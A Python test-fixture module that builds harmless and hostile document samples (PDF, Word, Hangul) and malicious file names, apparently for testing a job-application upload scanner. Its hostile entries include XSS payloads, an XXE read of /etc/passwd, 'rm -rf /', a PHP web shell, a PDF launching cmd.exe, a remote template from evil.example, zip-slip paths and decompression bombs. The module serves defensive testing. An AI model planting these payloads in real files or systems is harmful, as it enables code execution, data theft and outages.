"""Files as applicants send them, and as somebody would who wants harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
END = b"startxref\n9\n%%EOF\n"
WORD = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
    b'document.main+xml"/></Types>'
)
DOCX = {"[Content_Types].xml": WORD, "word/document.xml": b"<w:document/>"}
HWPX = {
    "mimetype": b"application/hwp+zip",
    "Contents/header.xml": b"<hh:head/>",
    "Contents/section0.xml": b"<hs:sec/>",
}
EVENTS = "var Documents = XHwpDocuments;\r\nfunction OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n"


def pdf(body: bytes = b"", *, catalog: bytes = b"", end: bytes = END) -> bytes:
    """Write a PDF with these objects."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + catalog + b" >>\nendobj\n" + body + end


def stream(content: bytes, said: bytes) -> bytes:
    return b"2 0 obj\n<< " + said + b" >>\nstream\n" + content + b"\nendstream\nendobj\n"


def packed(objects: bytes, *, filter: bytes = b"/Filter /FlateDecode") -> bytes:
    """Write a PDF whose objects are in a stream of objects."""
    return pdf(stream(zlib.compress(objects), b"/Type /ObjStm /N 1 /First 4 " + filter))


def zipped(members: Mapping[str, bytes], *, level: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def docx(**more: bytes) -> bytes:
    """Write a document of Word with further members (`__` stands for `/`)."""
    return zipped(DOCX | {name.replace("__", "/"): content for name, content in more.items()})


def hwpx(more: Mapping[str, bytes] | None = None) -> bytes:
    return zipped(HWPX | dict(more or {}))


def hwp(flags: int = 1, streams: Mapping[str, bytes] | None = None) -> bytes:
    """Write a document of Hangul 5.0: a compound file with its header and these streams, all of them short."""
    header = b"HWP Document File".ljust(32, b"\0") + b"\x05\x01\x00\x05" + struct.pack("<L", flags)
    return compound({"FileHeader": header.ljust(256, b"\0"), "DocInfo": b"x" * 70} | dict(streams or {}))


def compound(streams: Mapping[str, bytes]) -> bytes:
    """Write a compound file of version 3 whose streams are shorter than 4096 bytes ([MS-CFB])."""
    mini, placed = b"", []
    mini_table: list[int] = []
    for name, content in streams.items():
        count = -(-len(content) // 64)
        first = len(mini_table)
        mini_table += [first + n + 1 for n in range(count - 1)] + [0xFFFFFFFE]
        mini += content.ljust(count * 64, b"\0")
        placed.append((name, first, len(content)))
    entries = [_entry("Root Entry", 5, 0, len(mini), child=1)]
    entries += [
        _entry(name, 2, first, size, right=n + 1 if n < len(placed) else None)
        for n, (name, first, size) in enumerate(placed, start=1)
    ]
    parts = [
        _sectors(mini),
        _sectors(b"".join(entries).ljust(-(-len(entries) // 4) * 512, b"\0")),
        _sectors(struct.pack(f"<{len(mini_table)}L", *mini_table), fill=b"\xff"),
    ]
    starts, table = list[int](), list[int]()
    for part in parts:
        starts.append(len(table))
        sectors = len(part) // 512
        table += [len(table) + n + 1 for n in range(sectors - 1)] + [0xFFFFFFFE]
    table_at = len(table)
    table += [0xFFFFFFFD]
    table += [0xFFFFFFFF] * (128 - len(table))
    head = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<LLLLL", 0, 1, starts[1], 0, 4096)
    head += struct.pack("<LLLL", starts[2], len(parts[2]) // 512, 0xFFFFFFFE, 0)
    head += struct.pack("<109L", table_at, *[0xFFFFFFFF] * 108)
    return head + b"".join(parts) + struct.pack("<128L", *table)


def _entry(
    name: str, kind: int, start: int, size: int, *, child: int | None = None, right: int | None = None
) -> bytes:
    written = (name + "\0").encode("utf-16-le")
    none = 0xFFFFFFFF
    links = struct.pack("<LLL", none, right if right is not None else none, child if child is not None else none)
    body = written.ljust(64, b"\0") + struct.pack("<HBB", len(written), kind, 1) + links
    return body + b"\0" * 36 + struct.pack("<LLL", start, size, 0)


def _sectors(content: bytes, fill: bytes = b"\0") -> bytes:
    return content.ljust(-(-len(content) // 512) * 512, fill)


def _relation(kind: str, target: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def _lying_directory() -> bytes:
    """Write a ZIP whose directory is larger than any document's."""
    return zipped({f"word/{n}.xml": b"" for n in range(6000)} | DOCX, level=zipfile.ZIP_STORED)


HARMLESS: dict[str, tuple[bytes, str]] = {
    "a plain PDF": (pdf(), "pdf"),
    "objects in a stream": (packed(b"3 0 << /Type /Page >>"), "pdf"),
    "a word that looks like a name": (pdf(stream(b"(see /JS and endless)", b"/Length 20")), "pdf"),
    "a Word document": (docx(), "docx"),
    "Word's own template": (
        docx(**{"word___rels__settings.xml.rels": _relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")}),
        "docx",
    ),
    "a link in a document": (
        docx(**{"word___rels__document.xml.rels": _relation("hyperlink", "https://example.org")}),
        "docx",
    ),
    "a Hangul document": (hwp(), "hwp"),
    "a Hangul document with a picture": (hwp(streams={"BIN0001.jpg": b"\xff\xd8"}), "hwp"),
    "an HWPX document": (hwpx(), "hwpx"),
    "an HWPX document with empty events": (hwpx({"Scripts/headerScripts": EVENTS.encode("utf-16")}), "hwpx"),
}

HOSTILE: dict[str, bytes] = {
    "nothing": b"",
    "EICAR": EICAR,
    "EICAR behind a PDF header": b"%PDF-" + EICAR,
    "HTML": b"<!doctype html><script>alert(1)</script>",
    "HTML with a byte order mark": b"\xef\xbb\xbf<html><body onload=alert(1)>",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "a script": b"#!/bin/sh\nrm -rf /\n",
    "a program": b"MZ\x90\x00" + b"\0" * 500,
    "an ELF program": b"\x7fELF" + b"\0" * 500,
    "PHP": b"<?php system($_GET['c']); ?>",
    "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "RTF": b"{\\rtf1{\\object\\objdata 0105}}",
    "GIF and script": b"GIF89a/*<svg onload=alert(1)>*/=1;alert(1)",
    "HTML before a PDF": b"<html><script>alert(1)</script></html>\n" + pdf(),
    "HTML at the head of a PDF": b"%PDF-1.7\n<html><script>alert(1)</script>\n" + pdf()[9:],
    "a PDF without an end": pdf(end=b""),
    "a PDF that is a ZIP, too": pdf() + docx(),
    "a PDF of no version": b"%PDF-9.9\n" + pdf()[9:],
    "PDF with JavaScript": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "PDF with JavaScript in other letters": pdf(catalog=b"/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>"),
    "PDF with JavaScript in a stream of objects": packed(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    "PDF with JavaScript in plain objects": pdf(stream(b"3 0 << /JS (x) >>", b"/Type /ObjStm /N 1 /First 4")),
    "PDF with JavaScript behind a false stream": pdf(b"% stream\n<< /S /JavaScript /JS (x) >>\nendstream\n"),
    "PDF that starts a program": pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "PDF with a file inside": pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>"),
    "PDF with an attached file": pdf(b"3 0 obj\n<< /Subtype /FileAttachment /FS 4 0 R >>\nendobj\n"),
    "PDF with a film": pdf(b"3 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"),
    "PDF with an XFA form": pdf(catalog=b"/AcroForm << /XFA 3 0 R >>"),
    "PDF that sends a form": pdf(b"3 0 obj\n<< /S /SubmitForm /F (http://example.org) >>\nendobj\n"),
    "PDF that opens another": pdf(b"3 0 obj\n<< /S /GoToR /F (\\\\\\\\host\\\\share) >>\nendobj\n"),
    "PDF that is encrypted": pdf(end=b"trailer << /Encrypt 5 0 R >>\n" + END),
    "PDF with objects packed twice": packed(b"3 0 << >>", filter=b"/Filter [/ASCIIHexDecode /FlateDecode]"),
    "PDF with objects behind a predictor": packed(
        b"3 0 << >>", filter=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"
    ),
    "PDF with a bomb of objects": packed(b" " * (60 * 1024 * 1024)),
    "a ZIP of anything": zipped({"a.txt": b"x"}),
    "a workbook": zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
    "a ZIP bomb": docx(word__media__image1=b"\0" * (90 * 1024 * 1024)),
    "a ZIP of very many members": _lying_directory(),
    "a ZIP that leads away": docx(**{"..__..__evil.xml": b"x"}),
    "a ZIP with something behind it": docx() + b"<script>alert(1)</script>",
    "a ZIP with a comment": zipped(DOCX, comment=b"<script>alert(1)</script>"),
    "a ZIP with something before it": b"PK\x03\x04<script>" + docx(),
    "Word with macros": docx(word__vbaProject=b"x") + b"",
    "Word with macros by type": zipped(
        DOCX | {"[Content_Types].xml": WORD.replace(b"wordprocessingml.document.main", b"x.macroEnabled.main")}
    ),
    "Word with an embedded object": zipped(DOCX | {"word/embeddings/oleObject1.bin": b"x"}),
    "Word with ActiveX": zipped(DOCX | {"word/activeX/activeX1.xml": b"x"}),
    "Word with a template from elsewhere": docx(
        **{"word___rels__settings.xml.rels": _relation("attachedTemplate", "https://evil.example/t.dotm")}
    ),
    "Word with a template from a share": docx(
        **{"word___rels__settings.xml.rels": _relation("attachedTemplate", "file://host/share/t.dotm")}
    ),
    "Word with entities": docx(word__document2=b"x")
    and zipped(DOCX | {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'}),
    "HWPX with a script": hwpx({"Scripts/headerScripts": b"function OnDocument_New() { run('cmd'); }"}),
    "HWPX with an object": hwpx({"BinData/ole1.ole": b"x"}),
    "HWPX that is something else": zipped(HWPX | {"mimetype": b"application/epub+zip"}),
    "HWP with a script": hwp(0b1001),
    "HWP with a password": hwp(0b11),
    "HWP with an object": hwp(streams={"BIN0001.OLE": b"x"}),
    "HWP with PostScript": hwp(streams={"BIN0001.eps": b"%!PS"}),
    "Word 97 with macros": compound({"WordDocument": b"x", "Macros": b"x"}),
    "a compound file that turns in circles": hwp()[:76] + struct.pack("<L", 0) + hwp()[80:],
    "a compound file cut off": hwp()[:700],
}

NAMES = (
    "../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\a.pdf",
    "/etc/shadow",
    "C:\\Users\\a\\이력서.pdf",
    "resume\u202efdp.exe",
    "resume.pdf.exe",
    "a\r\nSet-Cookie: x=1.pdf",
    'a";filename="x.html.pdf',
    "<script>alert(1)</script>.pdf",
    "\u200b\u2066.pdf",
    "",
    "가" * 400 + ".pdf",
    "%2e%2e%2fa.pdf",
    ".htaccess",
)
